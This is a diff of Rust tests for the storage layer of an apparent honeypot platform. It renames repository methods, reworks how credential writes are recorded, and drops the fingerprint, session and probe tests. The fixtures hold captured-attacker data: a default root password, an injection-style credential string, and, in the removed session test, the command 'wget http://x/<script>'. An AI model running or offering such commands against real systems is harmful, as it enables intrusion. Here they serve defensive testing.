@@ -77,7 +77,7 @@ async fn flows_merge_and_never_shrink(b: Backend) {
     repo.upsert_flows(std::slice::from_ref(&start))
         .await
         .unwrap();
-    let rows = repo.list_flows().await.unwrap();
+    let rows = repo.all_flows().await.unwrap();
     assert_eq!(rows.len(), 1);
     let r = &rows[0];
     assert_eq!(
@@ -99,7 +99,7 @@ async fn flows_merge_and_never_shrink(b: Backend) {
     v6.src_port = u16::MAX;
     repo.upsert_flows(std::slice::from_ref(&v6)).await.unwrap();
     assert_eq!(repo.count_flows().await.unwrap(), 10_001);
-    let back = repo.list_flows().await.unwrap();
+    let back = repo.all_flows().await.unwrap();
     assert!(back.contains(&v6));
     repo.close().await;
     db.cleanup().await;
@@ -213,7 +213,7 @@ async fn snapshot(repo: &Repository) -> String {
     if let Some(a) = a.as_mut() {
         a.id = 0;
     }
-    let path = repo.traversal(ip(7)).await.unwrap();
+    let path = repo.touches(ip(7)).await.unwrap();
     let cur = repo.cursor("collector", "h1", "input").await.unwrap();
     format!("{events:?}\n{a:?}\n{path:?}\n{cur:?}")
 }
@@ -305,7 +305,7 @@ async fn attackers_merge_never_shrinks(b: Backend) {
         .unwrap();
     tx.commit().await.unwrap();
     let path: Vec<String> = repo
-        .traversal(ip(9))
+        .touches(ip(9))
         .await
         .unwrap()
         .into_iter()
@@ -313,7 +313,7 @@ async fn attackers_merge_never_shrinks(b: Backend) {
         .collect();
     assert_eq!(path, ["a", "b", "c"]);
     assert_eq!(
-        repo.traversal(ip(9)).await.unwrap()[0].last_seen_ns,
+        repo.touches(ip(9)).await.unwrap()[0].last_seen_ns,
         T0 + 40 * SEC
     );
 
@@ -361,13 +361,19 @@ async fn intel_natural_keys_merge(b: Backend) {
         first_seen_ns: T0 + s,
         last_seen_ns: T0 + s,
     };
+    // Credentials are written only with the events that carry them (the collector's path): one
+    // attempt per new event, so three attempts on the same natural key merge into one row.
+    let evs: Vec<NewEvent> = (0..4).map(|i| event(i, ip(3))).collect();
     let mut tx = repo.begin().await.unwrap();
-    tx.upsert_credentials(&[
-        cred(b"root", b"123456", 1, 0),
-        cred(b"root", b"123456", 3, 5),
-        cred(b"root", b"123456", 2, 2),
-        cred(b"ro\0ot\xff", b"pa'ss\"--", 1, 1),
-    ])
+    tx.insert_events_with_credentials(
+        &evs,
+        &[
+            (0, cred(b"root", b"123456", 1, 0)),
+            (1, cred(b"root", b"123456", 1, 5)),
+            (2, cred(b"root", b"123456", 1, 2)),
+            (3, cred(b"ro\0ot\xff", b"pa'ss\"--", 1, 1)),
+        ],
+    )
     .await
     .unwrap();
     tx.commit().await.unwrap();
@@ -383,61 +389,6 @@ async fn intel_natural_keys_merge(b: Backend) {
     assert_eq!(odd.principal, b"ro\0ot\xff");
     assert_eq!(odd.secret_printable, "pa'ss\"--");
 
-    let fp = |count, s| Fingerprint {
-        kind: "ja4".into(),
-        value: "t13d1516h2_8daaf6152771_02713d6af862".into(),
-        attacker_ip: ip(3),
-        first_seen_ns: T0 + s,
-        last_seen_ns: T0 + s,
-        count,
-    };
-    let mut tx = repo.begin().await.unwrap();
-    tx.upsert_fingerprints(&[fp(2, 10), fp(5, 20), fp(1, 0)])
-        .await
-        .unwrap();
-    tx.commit().await.unwrap();
-    let fps = repo.fingerprints(ip(3)).await.unwrap();
-    assert_eq!(fps.len(), 1);
-    assert_eq!(
-        (fps[0].count, fps[0].first_seen_ns, fps[0].last_seen_ns),
-        (5, T0, T0 + 20)
-    );
-
-    let session = |events, cmds: &[&str], end| Session {
-        attacker_ip: ip(3),
-        decky: "web-01".into(),
-        service: "ssh".into(),
-        started_ns: T0,
-        ended_ns: T0 + end,
-        event_count: events,
-        bytes: 100 * events,
-        commands: cmds.iter().map(|s| s.to_string()).collect(),
-        closed: false,
-    };
-    let mut tx = repo.begin().await.unwrap();
-    tx.upsert_sessions(&[session(3, &["id", "uname -a"], 30)])
-        .await
-        .unwrap();
-    // A replay with fewer events (stale) must not replace the command list or shrink counts.
-    tx.upsert_sessions(&[session(1, &["id"], 10)])
-        .await
-        .unwrap();
-    tx.commit().await.unwrap();
-    let s = &repo.sessions(ip(3)).await.unwrap()[0];
-    assert_eq!((s.event_count, s.bytes, s.ended_ns), (3, 300, T0 + 30));
-    assert_eq!(s.commands, ["id", "uname -a"]);
-    let mut tx = repo.begin().await.unwrap();
-    tx.upsert_sessions(&[session(
-        4,
-        &["id", "uname -a", "wget http://x/<script>"],
-        40,
-    )])
-    .await
-    .unwrap();
-    tx.commit().await.unwrap();
-    let s = &repo.sessions(ip(3)).await.unwrap()[0];
-    assert_eq!(s.commands.len(), 3);
-    assert_eq!(repo.sessions(ip(3)).await.unwrap().len(), 1);
     repo.close().await;
     db.cleanup().await;
 }
@@ -468,16 +419,6 @@ async fn fleet_users_cursors_counters(b: Backend) {
         .await
         .unwrap();
     assert!(tx.set_decky_status("web-01", "down").await.unwrap());
-    tx.insert_probe_results(&[ProbeResult {
-        ts_ns: T0,
-        decky: "web-01".into(),
-        service: "https".into(),
-        check: "banner".into(),
-        ok: true,
-        detail: "nginx".into(),
-    }])
-    .await
-    .unwrap();
     let m = Mutation {
         ts_ns: T0,
         decky: "web-01".into(),
@@ -501,7 +442,6 @@ async fn fleet_users_cursors_counters(b: Backend) {
         "re-recording replaces the service set"
     );
     assert_eq!(ds[0].status, "down");
-    assert_eq!(repo.probe_results("web-01").await.unwrap().len(), 1);
     let ms = repo.mutations("web-01").await.unwrap();
     assert_eq!((ms.len(), ms[0].status.as_str()), (1, "applied"));
 
